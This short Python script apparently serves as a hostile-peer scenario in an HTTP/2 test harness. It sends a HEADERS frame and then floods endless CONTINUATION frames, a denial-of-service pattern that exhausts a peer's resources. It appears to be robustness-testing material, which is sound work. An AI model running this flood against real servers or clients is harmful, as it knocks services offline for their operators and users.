"""Sends headers that go on without an end."""

from wire import CONTINUATION, HEADERS, frame, serve


def attack(wire, ask) -> None:
    wire.send(frame(HEADERS, 0, wire.play, b""))
    wire.flood(frame(CONTINUATION, 0, wire.play, b""))


serve(attack)
